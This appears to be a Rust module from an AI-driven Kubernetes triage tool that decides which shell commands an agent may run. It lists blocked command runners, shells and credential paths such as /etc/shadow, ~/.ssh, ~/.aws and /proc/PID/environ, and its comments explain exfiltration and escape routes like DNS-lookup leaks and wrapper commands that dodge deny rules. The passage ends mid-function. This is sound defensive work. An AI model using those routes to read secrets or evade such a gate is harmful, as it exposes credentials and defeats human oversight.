//! What may run: the built-in lists, the user's `allow`/`deny` entries, and [`classify`],
//! which turns a command into a [`Verdict`].

use serde::{Deserialize, Serialize};

use super::deny::deny_match;
use super::evaluation;
use super::hidden_reads;
use super::parse::{self, Analysis, Segment, Word};
use crate::tools::kubernetes;

/// Which built-in allow list applies (`builtin_allowlist` in config).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum BuiltinAllowlist {
    /// Read-only kubectl and text filters.
    Core,
    /// `core` plus read-only file, process and network inspection.
    #[default]
    Extended,
    /// Nothing is allowed without approval except the user's `allow` entries.
    None,
}

/// Read-only commands allowed at the `core` level (prefixes matched word by word). Not
/// `kubectl config view`: its redaction spares auth-provider tokens (`id-token`,
/// `refresh-token`, `client-secret`) and credential plugins' `env` and `args`.
pub const CORE_ALLOW: &[&str] = &[
    "kubectl get",
    "kubectl describe",
    "kubectl logs",
    "kubectl top",
    "kubectl explain",
    "kubectl api-resources",
    "kubectl api-versions",
    "kubectl config current-context",
    "kubectl config get-contexts",
    "kubectl cluster-info",
    "kubectl version",
    "kubectl auth can-i",
    "kubectl events",
    "jq",
    "grep",
    "egrep",
    "fgrep",
    "head",
    "tail",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tr",
    "id",
    "whoami",
    "hostname",
    "uname",
    "date",
    "which",
    "echo",
    "printf",
    "column",
    "nl",
    "tac",
    "rev",
];

/// Added at the `extended` level. Not `awk` (`system()`), `sed` (`e`, `w`) or `curl` (`-o`);
/// not `dig`, `nslookup`, `host` or `ping` either: a name looked up, a server asked or a ping
/// payload can carry what the model has read out of the network, so they need approval.
pub const EXTENDED_ALLOW: &[&str] = &[
    "cat",
    "ls",
    "find",
    "stat",
    "du",
    "df",
    "file",
    "base64",
    "free",
    "uptime",
    "ps",
    "ip addr show",
    "ip route show",
    "ip link show",
    "ss",
    "netstat",
];

/// Commands that run other commands, change which program a name runs, load code or change
/// privileges: never run. (`compgen -C`, `fc -e` and `trap` run commands; `hash -p` points a
/// name at another program; `enable -f` loads a builtin from a shared object.) A wrapper's
/// command is not checked, so with approval `stdbuf -o0 kubectl delete …` would escape a
/// `deny` entry; `time` (a keyword) is one too.
pub const RUNNERS: &[&str] = &[
    "sudo",
    "su",
    "doas",
    "pkexec",
    "runuser",
    "eval",
    "exec",
    "source",
    ".",
    "env",
    "xargs",
    "nohup",
    "timeout",
    "nice",
    "setsid",
    "chroot",
    "nsenter",
    "unshare",
    "busybox",
    "command",
    "builtin",
    "trap",
    "compgen",
    "fc",
    "hash",
    "enable",
    "time",
    "stdbuf",
    "ionice",
    "taskset",
    "chrt",
    "flock",
    "watch",
    "script",
    "strace",
    "ltrace",
    "setpriv",
    "capsh",
    "prlimit",
    "unbuffer",
    "parallel",
    "systemd-run",
    "sg",
    "newgrp",
    "numactl",
    "cgexec",
    "firejail",
    "bwrap",
    "catchsegv",
    "valgrind",
];

/// Options that name the files to read in a file or on stdin, out of the path checks' sight
/// (`find / -print0 | wc --files0-from=-` tells the size of every file found).
const FILE_LIST_OPTIONS: &[(&str, &[&str])] = &[
    ("wc", &["--files0-from"]),
    ("du", &["--files0-from"]),
    ("sort", &["--files0-from"]),
    ("find", &["-files0-from"]),
    ("file", &["-f", "--files-from"]),
    ("tar", &["-T", "--files-from"]),
];

/// Shells: a nested shell (`-c`, a script, or commands piped in) hides what it runs.
pub const SHELLS: &[&str] = &[
    "bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh",
];

/// `find` actions that run commands, delete or write files.
pub const FIND_BLOCKED: &[&str] = &[
    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
];

/// Paths never named in a command (matched after lexical normalisation, also inside
/// `--opt=PATH` and `-fPATH`).
pub const SENSITIVE_PATHS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/sudoers.d",
    "/var/run/secrets",
    "/run/secrets",
    "/root",
    "/proc/kcore",
];

/// Files of a process under `/proc/PID/` that hold its secrets: the environment, the whole
/// memory (`tail -c +N /proc/PID/mem` seeks into another process's heap) and its open files
/// (`cat /proc/PID/fd/N` opens triage's end of another request's tool output pipe, or a
/// deleted or anonymous file no path names).
pub const SENSITIVE_PROC_FILES: &[&str] = &["environ", "mem", "fd", "map_files"];

/// Path component sequences never named, wherever they are (`~/.ssh`, `x/.kube/config`):
/// the credential stores of the tools' user. kubectl's credential plugins keep the cluster's
/// tokens there (`~/.kube/cache/oidc-login`, `~/.aws/cli/cache`, `~/.aws/sso/cache`,
/// gcloud's and az's token caches), so a kubeconfig triage uses is only as secret as they are.
pub const SENSITIVE_COMPONENTS: &[&[&str]] = &[
    &[".ssh"],
    &[".kube"],
    &[".aws"],
    &[".azure"],
    &[".config", "gcloud"],
    &[".docker", "config.json"],
    &[".netrc"],
    &[".git-credentials"],
    &[".gnupg"],
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    Allowed,
    NeedsApproval(String),
    Refused(String),
}

/// The allow and deny entries (split into words) and the facts path checks need.
#[derive(Debug, Clone)]
pub struct Policy {
    allow: Vec<Vec<String>>,
    deny: Vec<Vec<String>>,
    /// HOME of the commands, for `~`; unknown means `~` needs approval.
    home: Option<String>,
    /// Working directory of the commands, for relative paths.
    cwd: String,
    /// More sensitive paths (the KUBECONFIG files).
    extra_sensitive: Vec<String>,
}

impl Policy {
    pub fn new(
        level: BuiltinAllowlist,
        allow: &[String],
        deny: &[String],
        home: Option<String>,
        cwd: String,
    ) -> Policy {
        let builtin: Vec<&str> = match level {
            BuiltinAllowlist::Core => CORE_ALLOW.to_vec(),
            BuiltinAllowlist::Extended => [CORE_ALLOW, EXTENDED_ALLOW].concat(),
            BuiltinAllowlist::None => Vec::new(),
        };
        let split = |s: &str| -> Vec<String> { s.split_whitespace().map(str::to_owned).collect() };
        Policy {
            allow: builtin
                .iter()
                .map(|s| split(s))
                .chain(allow.iter().map(|s| split(s)))
                .filter(|e| !e.is_empty())
                .collect(),
            deny: deny
                .iter()
                .map(|s| split(s))
                .filter(|e| !e.is_empty())
                .collect(),
            home,
            cwd,
            extra_sensitive: Vec::new(),
        }
    }

    pub fn with_sensitive_paths(mut self, paths: impl IntoIterator<Item = String>) -> Policy {
        self.extra_sensitive.extend(
            paths
                .into_iter()
                .filter(|p| p.starts_with('/'))
                .map(|p| normalize(&p)),
        );
        self
    }

    /// Every sensitive path, each configured one also under the name of what it points to
    /// now: a mounted Secret's `..data` link moves to a new directory on every update.
    fn sensitive_paths(&self) -> Vec<String> {
        let mut all: Vec<String> = SENSITIVE_PATHS.iter().map(|p| p.to_string()).collect();
        for path in &self.extra_sensitive {
            all.push(path.clone());
            all.extend(canonical_path(path).filter(|real| real != path));
        }
        all
    }

    pub fn home(&self) -> Option<&str> {
        self.home.as_deref()
    }

    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// The allow-list entries, for the prompt.
    pub fn allowed(&self) -> impl Iterator<Item = String> + '_ {
        self.allow.iter().map(|e| e.join(" "))
    }
}

enum SegmentVerdict {
    Allowed,
    NotAllowed,
    NeedsApproval(String),
    Refused(String),
}

/// Decides whether a command runs as is, needs the user's approval, or is never run.
pub fn classify(command: &str, policy: &Policy) -> Verdict {
    if command.trim().is_empty() {
        return Verdict::Refused("the command is empty".into());
    }
    if command
        .chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t')
    {
        return Verdict::Refused("control characters are not allowed in the command".into());
    }
    let (segments, approvals) = match parse::analyse(command, policy.home()) {
        Analysis::Unparsed => return unparsed(command, policy),
        Analysis::Refused(reason) => return Verdict::Refused(reason),
        Analysis::Parsed {
            segments,
            approvals,
        } => (segments, approvals),
    };
    let mut reasons = approvals;
    let mut not_allowed = Vec::new();
    for seg in &segments {
        match check_segment(seg, policy) {
            SegmentVerdict::Refused(reason) => return Verdict::Refused(reason),
            SegmentVerdict::NeedsApproval(reason) => reasons.push(reason),
            SegmentVerdict::NotAllowed => not_allowed.push(format!("'{}'", seg.source)),
            SegmentVerdict::Allowed => {}
        }
    }
    if !not_allowed.is_empty() {
        reasons.push(format!(
            "Segment(s) not in allow list: {}",
            not_allowed.join(", ")
        ));
    }
    if segments.is_empty() && reasons.is_empty() {
        return Verdict::Refused("the command has nothing to run".into());
    }
    if reasons.is_empty() {
        Verdict::Allowed
    } else {
        Verdict::NeedsApproval(reasons.join("; "))
    }
}

/// Raw-string checks for what tree-sitter could not parse, then approval.
fn unparsed(command: &str, policy: &Policy) -> Verdict {
    if ["$(", "`", "<(", ">("].iter().any(|s| command.contains(s)) {
        return Verdict::Refused(
            "command or process substitution ($(…), backticks, <(…), >(…)) is not allowed".into(),
        );
    }
    let tokens: Vec<String> = command
        .split(|c: char| c.is_whitespace() || ";|&()<>".contains(c))
        .map(|t| t.replace(['\'', '"', '\\'], ""))
        .filter(|t| !t.is_empty())
        .collect();
    let words: Vec<&str> = tokens.iter().map(String::as_str).collect();
    for (i, t) in words.iter().enumerate() {
        let base = basename(t);
        if RUNNERS.contains(&base)
            || SHELLS.contains(&base)
            || evaluation::NAME_BUILTINS.contains(&base)
        {
            return Verdict::Refused(format!("`{base}` is not allowed"));
        }
        if let Some(p) = sensitive_path(t, policy) {
            return Verdict::Refused(format!("{p} is a sensitive path"));
        }
        if let Some(entry) = policy.deny.iter().find(|e| deny_match(e, &words[i..])) {
            return Verdict::Refused(denied(entry));
        }
    }
    Verdict::NeedsApproval(
        "The command could not be parsed as a shell command, so it was not checked against \
         the allow list."
            .into(),
    )
}

fn denied(entry: &[String]) -> String {
    format!("'{}' is denied by configuration", entry.join(" "))
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn check_segment(seg: &Segment, policy: &Policy) -> SegmentVerdict {
    let texts: Vec<&str> = seg.words.iter().map(|w| w.text.as_str()).collect();
    let Some((&name, args)) = texts.split_first() else {
        return SegmentVerdict::Allowed;
    };
    if let Some(reason) = hard_block(basename(name), args) {
        return SegmentVerdict::Refused(reason);
    }
    for w in &seg.words {
        for form in [&w.text, &w.expanded] {
            if let Some(p) = sensitive_path(form, policy) {
                return SegmentVerdict::Refused(format!("{p} is a sensitive path"));
            }
        }
        // A pattern needs approval, but what it reaches is not shown to the user who approves.
        if (w.glob || w.brace)
            && let Some(reason) = pattern_reaches_sensitive(w, policy)
        {
            return SegmentVerdict::Refused(reason);
        }
    }
    if let Some(entry) = policy.deny.iter().find(|e| deny_match(e, &texts)) {
        return SegmentVerdict::Refused(denied(entry));
    }
    let first = &seg.words[0];
    if first.glob || first.brace || first.tilde_other {
        return SegmentVerdict::Refused(format!(
            "the command name must be a literal word, not '{name}'"
        ));
    }
    if let Some(reason) = expansion_in_args(seg) {
        return SegmentVerdict::NeedsApproval(reason);
    }
    if let Some(reason) = risky_option(name, args) {
        return SegmentVerdict::NeedsApproval(format!("'{}': {reason}", seg.source));
    }
    if policy.allow.iter().any(|e| allow_match(e, &texts)) {
        SegmentVerdict::Allowed
    } else {
        SegmentVerdict::NotAllowed
    }
}

fn hard_block(base: &str, args: &[&str]) -> Option<String> {
    if RUNNERS.contains(&base) {
        return Some(format!(
            "`{base}` is not allowed: it runs other commands, changes which program a name \
             runs, loads code or changes privileges; run the command directly"
        ));
    }
    if SHELLS.contains(&base) {
        return Some(format!(
            "running a nested shell (`{base}`) is not allowed; run the commands directly"
        ));
    }
    if base == "find"
        && let Some(a) = args
            .iter()
            .find(|a| FIND_BLOCKED.contains(a) || a.starts_with("-fprint"))
    {
        return Some(format!(
            "`find {a}` is not allowed: it runs commands, deletes or writes files"
        ));
    }
    if let Some(reason) = evaluation::evaluates_names(base, args) {
        return Some(reason);
    }
    if let Some(reason) = reads_file_list(base, args) {
        return Some(reason);
    }
    if let Some(reason) = hidden_reads::jq_modules(base, args) {
        return Some(reason);
    }
    if base == "kubectl" || base == "oc" {
        return kubectl_block(base, args);
    }
    hidden_reads::ps_environment(base, args)
}

fn reads_file_list(base: &str, args: &[&str]) -> Option<String> {
    let (_, opts) = FILE_LIST_OPTIONS.iter().find(|(name, _)| *name == base)?;
    let given = options(args).find(|a| {
        let name = a.split('=').next().unwrap_or(a);
        opts.iter().any(|o| {
            if o.starts_with("--") {
                name.len() >= 3 && o.starts_with(name) && name.starts_with("--")
            } else if o.len() == 2 {
                // A short option, alone or glued to its value or after switches.
                a.starts_with('-') && !a.starts_with("--") && a.contains(&o[1..])
            } else {
                name == *o
            }
        })
    })?;
    Some(format!(
        "`{base} {given}` reads the names of the files to open from a file or stdin, where \
         they cannot be checked for sensitive paths"
    ))
}

fn kubectl_block(base: &str, args: &[&str]) -> Option<String> {
    let checked = if base == "kubectl" {
        kubernetes::flags::refusal(args)
    } else {
        kubernetes::flags::connection_refusal(args)
    };
    if checked.is_some() {
        return checked;
    }
    let lower: Vec<String> = args.iter().map(|a| a.to_lowercase()).collect();
    let has = |w: &str| lower.iter().any(|a| a == w);
    let raw = lower.iter().any(|a| a.starts_with("--raw"));
    if has("config") && (raw || lower.iter().any(|a| a.starts_with("--flatten"))) {
        return Some("`kubectl config view --raw/--flatten` prints credentials".into());
    }
    let secret_element = |e: &str| {
        let rest = e
            .strip_prefix("secrets")
            .or_else(|| e.strip_prefix("secret"));
        rest.is_some_and(|r| r.is_empty() || r.starts_with('/') || r.starts_with('.'))
    };
    let names_secrets = lower.iter().any(|a| a.split(',').any(secret_element));
    // The API server decodes `%73`, so a raw path is decoded before looking for "secret".
    let raw_secrets = raw && lower.iter().any(|a| percent_decode(a).contains("secret"));
    if (names_secrets && (has("get") || has("describe"))) || raw_secrets {
        return Some("reading Kubernetes Secrets is not allowed".into());
    }
    None
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u8::from_str_radix(h, 16).ok());
        match (bytes[i], hex) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).to_lowercase()
}

fn expansion_in_args(seg: &Segment) -> Option<String> {
    let what = |w: &Word| {
        if w.glob {
            Some("a glob pattern")
        } else if w.brace {
            Some("a brace expansion")
        } else if w.tilde_other {
            Some("a ~user or ~+ expansion")
        } else {
            None
        }
    };
    seg.words.iter().skip(1).find_map(|w| {
        what(w).map(|kind| {
            format!(
                "'{}' uses {kind} ('{}'), which can reach files nobody reviewed; quote it if \
                 it is meant literally",
                seg.source, w.text
            )
        })
    })
}

/// Options that make an otherwise read-only command write files, run programs or change
/// the system.
fn risky_option(name: &str, args: &[&str]) -> Option<&'static str> {
    match name {
        "sort"
            if short_flag(args, "o", "ktST")
                || long_opt(args, "--output")
                || long_opt(args, "--compress-program") =>
        {
            Some("`sort -o`/`--compress-program` writes files or runs programs")
        }
        "uniq" if operands(args, "fsw") >= 2 => Some("`uniq IN OUT` writes a file"),
        "date" if short_flag(args, "s", "dfr") || long_opt(args, "--set") => {
            Some("`date -s` sets the clock")
        }
        "hostname" if hostname_sets(args) => Some("`hostname NAME`/`-F`/`-b` sets the hostname"),
        "ss" if short_flag(args, "KD", "fAFN")
            || long_opt(args, "--kill")
            || long_opt(args, "--diag") =>
        {
            Some("`ss -K`/`-D` kills sockets or writes a file")
        }
        "file" if short_flag(args, "C", "eFfmP") || long_opt(args, "--compile") => {
            Some("`file -C` writes a file")
        }
        "grep" | "egrep" | "fgrep" if grep_recursive(args) => {
            Some("recursive grep can read files nobody reviewed")
        }
        "kubectl" if args.iter().any(|a| a.starts_with("--output-directory")) => {
            Some("`--output-directory` writes files")
        }
        "kubectl" if raw_proxy(args) => Some(
            "`--raw` through a `proxy` subresource sends the request on to a pod, a service or \
             a node's kubelet",
        ),
        "kubectl" if kubectl_elsewhere(args) => {
            Some("`-f`/`-k` fetch what to read from files or URLs")
        }
        _ => None,
    }
}

/// `--raw` to a `…/proxy/…` path: the API server forwards it to whatever the path names.
fn raw_proxy(args: &[&str]) -> bool {
    args.iter().any(|a| a.starts_with("--raw"))
        && args
            .iter()
            .any(|a| percent_decode(a).split('/').any(|c| c == "proxy"))
}

/// `-f`/`--filename` or `-k`/`--kustomize`, also inside a cluster of switches (`-Af URL` is
/// `-A -f URL`): kubectl reads a file or fetches a URL, which can carry what the model read.
fn kubectl_elsewhere(args: &[&str]) -> bool {
    const LONG: &[&str] = &["--filename", "--kustomize"];
    args.iter()
        .any(|a| LONG.contains(&a.split('=').next().unwrap_or(a)))
        || short_flag(args, "fk", "nolcvLs")
}

/// The option arguments before `--`.
fn options<'a>(args: &'a [&'a str]) -> impl Iterator<Item = &'a str> + 'a {
    args.iter().copied().take_while(|a| *a != "--")
}

/// Whether a short option in `flags` is set in any `-abc` cluster; the rest of a cluster
/// after an option in `with_value` (and the next word, if the cluster ends there) is that
/// option's value.
fn short_flag(args: &[&str], flags: &str, with_value: &str) -> bool {
    let mut skip_next = false;
    for a in options(args) {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        let Some(cluster) = a.strip_prefix('-') else {
            continue;
        };
        if cluster.starts_with('-') {
            continue;
        }
        let chars: Vec<char> = cluster.chars().collect();
        for (i, c) in chars.iter().enumerate() {
            if flags.contains(*c) {
                return true;
            }
            if with_value.contains(*c) {
                skip_next = i + 1 == chars.len();
                break;
            }
        }
    }
    false
}

/// Whether a long option is given, also abbreviated (getopt accepts any unambiguous
/// prefix; an ambiguous one is an error, so matching every prefix only errs on the safe side).
fn long_opt(args: &[&str], name: &str) -> bool {
    options(args).any(|a| {
        let opt = a.split('=').next().unwrap_or(a);
        opt.starts_with("--") && opt.len() >= 3 && name.starts_with(opt)
    })
}

/// Operands (non-option words), the values of `with_value` short options excluded.
fn operands(args: &[&str], with_value: &str) -> usize {
    let mut count = 0;
    let mut skip_next = false;
    let mut after_dashes = false;
    for a in args {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        if after_dashes || *a == "-" || !a.starts_with('-') {
            count += 1;
        } else if *a == "--" {
            after_dashes = true;
        } else if !a.starts_with("--") {
            skip_next = a.chars().last().is_some_and(|c| with_value.contains(c));
        }
    }
    count
}

fn hostname_sets(args: &[&str]) -> bool {
    const SAFE_LONG: &[&str] = &[
        "--short",
        "--fqdn",
        "--long",
        "--domain",
        "--ip-address",
        "--all-ip-addresses",
        "--all-fqdns",
        "--alias",
        "--nis",
        "--yp",
        "--help",
        "--version",
    ];
    args.iter().any(|a| {
        if let Some(long) = a.strip_prefix("--") {
            !long.is_empty() && !SAFE_LONG.contains(a)
        } else if let Some(short) = a.strip_prefix('-') {
            short.is_empty() || !short.chars().all(|c| "adfisyAIV".contains(c))
        } else {
            true
        }
    })
}

fn grep_recursive(args: &[&str]) -> bool {
    short_flag(args, "rRd", "ABCDefm")
        || long_opt(args, "--recursive")
        || long_opt(args, "--dereference-recursive")
        || long_opt(args, "--directories")
}

/// Allow entries match a prefix of the words exactly; the entry's last word may also be
/// a path prefix (`cat /var/log` allows `cat /var/log/syslog`, not `/var/log/../x`).
fn allow_match(entry: &[String], words: &[&str]) -> bool {
    let Some((last, init)) = entry.split_last() else {
        return false;
    };
    if words.len() < entry.len() || init.iter().zip(words).any(|(e, w)| e != w) {
        return false;
    }
    let w = words[init.len()];
    if w == last {
        return true;
    }
    let under = w
        .strip_prefix(last.as_str())
        .is_some_and(|rest| last.ends_with('/') && !rest.is_empty() || rest.starts_with('/'));
    under && !w.split('/').any(|c| c == "..")
}

/// Lexical normalisation: `//`, `.` and `..` resolved, relative paths kept relative.
fn normalize(path: &str) -> String {
    let absolute = path.starts_with('/');
    let mut parts: Vec<&str> = Vec::new();
    for c in path.split('/') {
        match c {
            "" | "." => {}
            ".." => match parts.last() {
                Some(&last) if last != ".." => {
                    parts.pop();
                }
                _ if absolute => {}
                _ => parts.push(".."),
            },
            c => parts.push(c),
        }
    }
    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else {
        joined
    }
}

/// Whether what follows a matched path ends its last component: `/etc/shadow`,
/// `/etc/shadow/`, `/etc/shadow-` (the backup), `"/etc/shadow"` inside a jq program; not
/// `/etc/shadowx` or `/rootfs`.
fn path_ends(rest: &str) -> bool {
    rest.chars()
        .next()
        .is_none_or(|c| !(c.is_alphanumeric() || c == '_'))
}

/// A brace expansion with more words than this is not followed.
const MAX_BRACE_WORDS: usize = 64;
/// Nor one longer than this, or with more groups: the check must stay cheap.
const MAX_BRACE_WORD_LEN: usize = 4096;
const MAX_BRACE_GROUPS: usize = 16;

/// Why a word with a glob or a brace expansion is refused: it can reach a sensitive path, or
/// it is too complex to tell. Judged from the pattern alone, never by walking directories
/// (`/*/*/*/*/*/*/x` would read millions of entries, a network mount could hang).
fn pattern_reaches_sensitive(w: &Word, policy: &Policy) -> Option<String> {
    let unclear = |what: &str| {
        Some(format!(
            "'{}' uses {what}, which cannot be checked for sensitive paths; name the files you \
             need",
            w.text
        ))
    };
    if w.tilde_other {
        return unclear("a ~user form with a pattern");
    }
    let words = if w.brace {
        let word = &w.expanded;
        // The parsed word has lost its quoting, so a quoted `}` or `,` would look like
        // structure, and bash keeps `{}` literal (yet expands `{},x}`). A word of `{}` pairs
        // alone is plain; otherwise any brace left after expanding, or an alternative starting
        // with `~` (bash would expand it), is refused as unclear.
        let literal_only = !word.replace("{}", "").contains(['{', '}']);
        let words = (word.len() <= MAX_BRACE_WORD_LEN
            && word.matches('{').count() <= MAX_BRACE_GROUPS
            && !word.contains("{}"))
        .then(|| expand_braces(word))
        .flatten()
        .filter(|ws| {
            !ws.iter()
                .any(|x| x.contains(['{', '}']) || x.starts_with('~'))
        });
        match words {
            Some(words) => words,
            None if literal_only => vec![word.clone()],
            None => {
                return unclear(
                    "a brace expansion that is nested, ranged, large, or has literal braces",
                );
            }
        }
    } else {
        vec![w.expanded.clone()]
    };
    for word in words {
        let reached = if word.contains(['*', '?', '[']) {
            let path = if word.starts_with('/') {
                word
            } else {
                format!("{}/{word}", policy.cwd)
            };
            if path.split('/').any(|c| c == "..") {
                return unclear("`..` in a glob");
            }
            glob_reaches(&path, policy)
                .or_else(|| with_real_prefix(&path).and_then(|real| glob_reaches(&real, policy)))
        } else {
            sensitive_path(&word, policy)
        };
        if let Some(p) = reached {
            return Some(format!(
                "'{}' reaches {p}, a sensitive path; name the files you need",
                w.text
            ));
        }
    }
    None
}

/// The words bash makes of `a{b,c}d` (`abd`, `acd`), several groups included; `None` for
/// nesting, ranges (`{1..9}`) and more than [`MAX_BRACE_WORDS`] words. A group without a
/// comma stays literal, as in bash.
fn expand_braces(word: &str) -> Option<Vec<String>> {
    let Some(open) = word.find('{') else {
        return Some(vec![word.to_owned()]);
    };
    let close = open + word[open..].find('}')?;
    let inner = &word[open + 1..close];
    if inner.contains('{')
        || (inner.contains("..") && !inner.contains(','))
        || inner.matches(',').count() >= MAX_BRACE_WORDS
    {
        return None;
    }
    let head = &word[..open];
    let rest = expand_braces(&word[close + 1..])?;
    let alternatives: Vec<String> = if inner.contains(',') {
        inner.split(',').map(|a| format!("{head}{a}")).collect()
    } else {
        vec![word[..=close].to_owned()]
    };
    let mut out = Vec::new();
    for a in &alternatives {
        for r in &rest {
            out.push(format!("{a}{r}"));
            if out.len() > MAX_BRACE_WORDS {
                return None;
            }
        }
    }
    Some(out)
}

/// The sensitive path an absolute glob could match, compared component by component as bash
/// matches (`*` stops at `/`, a leading dot only by a literal dot). Bracket expressions count
/// as any one character and extglob groups as anything: refusing too much is safe, too little
/// is not. Links inside the directories a glob walks are not seen (that needs a directory walk,
/// which a pattern can make arbitrarily long); the glob still needs approval.
fn glob_reaches(path: &str, policy: &Policy) -> Option<String> {
    let options = glob::MatchOptions {
        case_sensitive: true,
        require_literal_separator: true,
        require_literal_leading_dot: true,
    };
    let matches = |pattern: &str, name: &str| {
        if !pattern.contains(['*', '?', '[', '(']) {
            pattern == name
        } else if name.starts_with('.') && !pattern.starts_with('.') {
            false
        } else if pattern.contains('(') {
            true
        } else {
            // Without globstar `**` is `*`; a pattern the crate cannot parse matches anything.
            let mut simple = brackets_as_any_char(pattern);
            while simple.contains("**") {
                simple = simple.replace("**", "*");
            }
            glob::Pattern::new(&simple).map_or(true, |p| p.matches_with(name, options))
        }
    };
    let comps: Vec<&str> = path
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    let matches_all = |patterns: &[&str], names: &[&str]| {
        patterns.len() == names.len() && patterns.iter().zip(names).all(|(p, n)| matches(p, n))
    };
    for sensitive in policy.sensitive_paths() {
        let names: Vec<&str> = sensitive.split('/').filter(|c| !c.is_empty()).collect();
        if comps.len() >= names.len() && matches_all(&comps[..names.len()], &names) {
            return Some(sensitive);
        }
    }
    for seq in SENSITIVE_COMPONENTS {
        if comps.windows(seq.len()).any(|w| matches_all(w, seq)) {
            return Some(seq.join("/"));
        }
    }
    // `/proc` below the root only by name: `/var/log/*/*` is not a procfs.
    let wild = |c: &str| c.chars().all(|ch| matches!(ch, '*' | '?'));
    SENSITIVE_PROC_FILES.iter().find_map(|file| {
        (0..comps.len())
            .any(|i| {
                matches(comps[i], "proc")
                    && (i == 0 || !wild(comps[i]))
                    && comps[i + 1..].iter().any(|c| matches(c, file))
            })
            .then(|| format!("/proc/*/{file}"))
    })
}

/// The glob with its literal leading directories resolved (`/proc/1/cwd/etc/sha*` is
/// `/etc/sha*` when pid 1 runs in `/`), if they exist and resolve elsewhere.
fn with_real_prefix(path: &str) -> Option<String> {
    let comps: Vec<&str> = path.split('/').filter(|c| !c.is_empty()).collect();
    let first_pattern = comps
        .iter()
        .position(|c| c.contains(['*', '?', '[', '(']))?;
    if first_pattern == 0 {
        return None;
    }
    let prefix = format!("/{}", comps[..first_pattern].join("/"));
    let real = canonical_path(&prefix)?;
    (real != prefix).then(|| {
        format!(
            "{}/{}",
            real.trim_end_matches('/'),
            comps[first_pattern..].join("/")
        )
    })
}

/// The pattern with each bracket expression (`[ab]`, `[^x]`, `[[:lower:]]`) replaced by `?`;
/// an unterminated one makes the rest `*`.
fn brackets_as_any_char(pattern: &str) -> String {
    let chars: Vec<char> = pattern.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '[' {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let mut j = i + 1;
        if matches!(chars.get(j), Some('!' | '^')) {
            j += 1;
        }
        // A `]` right after the opening is a member, not the end.
        if chars.get(j) == Some(&']') {
            j += 1;
        }
        while j < chars.len() && chars[j] != ']' {
            if chars[j] == '[' && matches!(chars.get(j + 1), Some(':' | '.' | '=')) {
                let kind = chars[j + 1];
                j += 2;
                while j + 1 < chars.len() && !(chars[j] == kind && chars[j + 1] == ']') {
                    j += 1;
                }
                j += 2;
            } else {
                j += 1;
            }
        }
        if j >= chars.len() {
            out.push('*');
            break;
        }
        out.push('?');
        i = j + 1;
    }
    out
}

/// The path with every link resolved, if it exists and is UTF-8.
fn canonical_path(path: &str) -> Option<String> {
    std::fs::canonicalize(path)
        .ok()
        .and_then(|p| p.into_os_string().into_string().ok())
}

fn contains_path(haystack: &str, path: &str) -> bool {
    haystack
        .match_indices(path)
        .any(|(i, _)| haystack.get(i + path.len()..).is_some_and(path_ends))
}

fn starts_with_path(haystack: &str, path: &str) -> bool {
    haystack.strip_prefix(path).is_some_and(path_ends)
}

/// A path component without the quotes or other punctuation around it.
fn bare(component: &str) -> &str {
    component.trim_matches(|c: char| !(c.is_alphanumeric() || "._-".contains(c)))
}

/// Parts of one word (split at `=`, `:`, `,`) whose real names are looked up.
const MAX_RESOLVED_PARTS: usize = 64;

/// The sensitive path a word names, if any: the word itself, the part after any `=`, `:`
/// or `,`, each normalised and (when relative) resolved against the working directory.
fn sensitive_path(word: &str, policy: &Policy) -> Option<String> {
    let mut candidates = vec![word];
    candidates.extend(
        word.match_indices(['=', ':', ','])
            .filter_map(|(i, _)| word.get(i + 1..)),
    );
    // A path glued to a short option: `-f/tmp/x`.
    if word.starts_with('-') {
        candidates.extend(word.find('/').and_then(|i| word.get(i..)));
    }
    let all = policy.sensitive_paths();
    for (n, cand) in candidates.into_iter().filter(|c| !c.is_empty()).enumerate() {
        let norm = normalize(cand);
        // A bare relative name is not resolved: under cwd `/` every word `root` would be
        // `/root`; with a `/` or `..` it is (`../etc/shadow`, `etc/shadow`).
        let resolved = if cand.starts_with('/') || !(cand.contains('/') || cand == "..") {
            norm.clone()
        } else {
            normalize(&format!("{}/{cand}", policy.cwd))
        };
        // A link names what it points to (`/tmp/x -> /etc/shadow`): paths that exist are
        // also checked under their real name, resolved as the kernel does (`link/..` is the
        // parent of the link's target, not the link's own directory). A bare name is followed
        // only when it is a link, so that under cwd `/` the word `root` stays a word.
        let raw = if cand.starts_with('/') {
            cand.to_owned()
        } else {
            format!("{}/{cand}", policy.cwd)
        };
        // Bounded: a word with thousands of separators is not thousands of syscalls.
        let follow = n < MAX_RESOLVED_PARTS
            && (cand.contains('/')
                || std::fs::symlink_metadata(&raw).is_ok_and(|m| m.file_type().is_symlink()));
        let real = follow.then(|| canonical_path(&raw)).flatten();
        for p in &all {
            if contains_path(&norm, p)
                || starts_with_path(&resolved, p)
                || real.as_deref().is_some_and(|r| starts_with_path(r, p))
            {
                return Some(p.clone());
            }
        }
        for path in [Some(&norm), Some(&resolved), real.as_ref()]
            .into_iter()
            .flatten()
        {
            let comps: Vec<&str> = path
                .split('/')
                .map(bare)
                .filter(|c| !c.is_empty())
                .collect();
            if let Some(i) = comps.iter().position(|c| *c == "proc")
